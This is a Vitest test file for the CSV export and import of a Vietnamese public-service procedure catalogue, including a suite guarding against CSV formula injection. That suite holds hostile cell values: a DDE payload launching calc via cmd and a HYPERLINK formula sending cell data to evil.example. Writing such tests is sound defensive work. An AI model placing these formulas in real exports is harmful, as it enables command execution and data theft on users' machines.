import { describe, expect, it } from 'vitest';
import { catalogueCsv, catalogueFromCsv, catalogueRows, parseCsv } from '../../shared/catalogueSheet';
import { cellsAsSpreadsheetSees } from '../helpers/spreadsheetCells';

const ROWS = [
  { code: 'QA01', group: 'Công an tỉnh', nameVi: 'Cấp hộ chiếu phổ thông', nameEn: 'Ordinary passport', prefix: 'QA', descriptionVi: 'Lần đầu, hoặc "cấp lại"', documents: ['Tờ khai', 'Ảnh 4×6'], documentsEn: ['Application form', 'Photo, 4×6 cm, "white background"'] },
  { code: 'HT', group: '', nameVi: 'Hộ tịch', nameEn: '', prefix: 'A', descriptionVi: '', documents: ['Tờ khai'], documentsEn: [] },
];

describe('the catalogue as CSV', () => {
  it('round-trips: commas, quotes and one document per line inside a cell', () => {
    const csv = catalogueCsv(ROWS);
    expect(csv.startsWith('\uFEFF"Mã","Lĩnh vực","Tên thủ tục"')).toBe(true);
    expect(catalogueRows(parseCsv(csv))).toEqual({ rows: ROWS, problems: [] });
    // The English list is its own column, one document per line like the Vietnamese.
    const [head, first] = parseCsv(csv);
    expect(head?.at(-1)).toBe('Giấy tờ cần mang (tiếng Anh)');
    expect(first?.at(-1)).toBe('Application form\nPhoto, 4×6 cm, "white background"');
  });

  it('reads a sheet from before the English documents column: its rows carry no English list at all (so an import keeps what is stored)', () => {
    const old = '\uFEFFMã,Lĩnh vực,Tên thủ tục,Tên tiếng Anh,Tiền tố,Mô tả,Giấy tờ cần mang\r\nQA01,Công an tỉnh,Cấp hộ chiếu,Passport,QA,,"Tờ khai\nẢnh"\r\n';
    const { rows, problems } = catalogueRows(parseCsv(old));
    expect(problems).toEqual([]);
    expect(rows).toEqual([{ code: 'QA01', group: 'Công an tỉnh', nameVi: 'Cấp hộ chiếu', nameEn: 'Passport', prefix: 'QA', descriptionVi: '', documents: ['Tờ khai', 'Ảnh'] }]);
    expect(rows[0]).not.toHaveProperty('documentsEn');
    // With the column present, an empty cell is an empty list (the office cleared it).
    const withColumn = catalogueRows(parseCsv('Mã,Tên thủ tục,Tiền tố,giay to can mang (tieng anh)\r\nQA01,Cấp hộ chiếu,QA,\r\n'));
    expect(withColumn.rows[0]?.documentsEn).toEqual([]);
  });

  it('reads an office’s own sheet: headings without tone marks, in another order, ; as separator, lower-case codes', () => {
    const sheet = 'ten thu tuc;ma;tien to;giay to can mang\r\nĐăng ký khai sinh;ht01;a;Tờ khai\r\n';
    expect(catalogueRows(parseCsv(sheet)).rows).toEqual([{ code: 'HT01', group: '', nameVi: 'Đăng ký khai sinh', nameEn: '', prefix: 'A', descriptionVi: '', documents: ['Tờ khai'] }]);
  });

  it('names the missing columns instead of guessing', () => {
    expect(catalogueRows(parseCsv('Tên thủ tục,Lĩnh vực\nHộ tịch,Tư pháp\n')).problems).toEqual(['Thiếu cột: Mã, Tiền tố']);
    expect(catalogueRows([]).problems).toEqual(['Tệp trống']);
  });
});

describe('the catalogue CSV is no formula carrier (issue #27)', () => {
  const HOSTILE = {
    code: 'HT02',
    group: '@SUM(1+1)*cmd|\' /C calc\'!A0',
    nameVi: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm để xem")',
    nameEn: "=cmd|' /C calc'!A0",
    prefix: 'B',
    descriptionVi: "Lần đầu; =1+1, +2 | -3 và '=giữ nguyên",
    documents: ['- Bản sao CCCD', '+84 số điện thoại', "'=đã có dấu nháy"],
    documentsEn: ['Form; =1+1', '@ngoài giờ'],
  };

  it('exports no cell a spreadsheet would run, whatever its list separator', () => {
    const line = catalogueCsv([HOSTILE]).split('\r\n')[1] as string;
    for (const sep of [',', ';', '\t', '|']) {
      for (const cell of cellsAsSpreadsheetSees(line, sep)) expect(/^\s*[=+\-@]/.test(cell), `${JSON.stringify(sep)}: ${cell}`).toBe(false);
    }
  });

  it('imports an exported file as it was exported', () => {
    expect(catalogueFromCsv(catalogueCsv([HOSTILE, ...ROWS]))).toEqual({ rows: [HOSTILE, ...ROWS], problems: [] });
  });
});
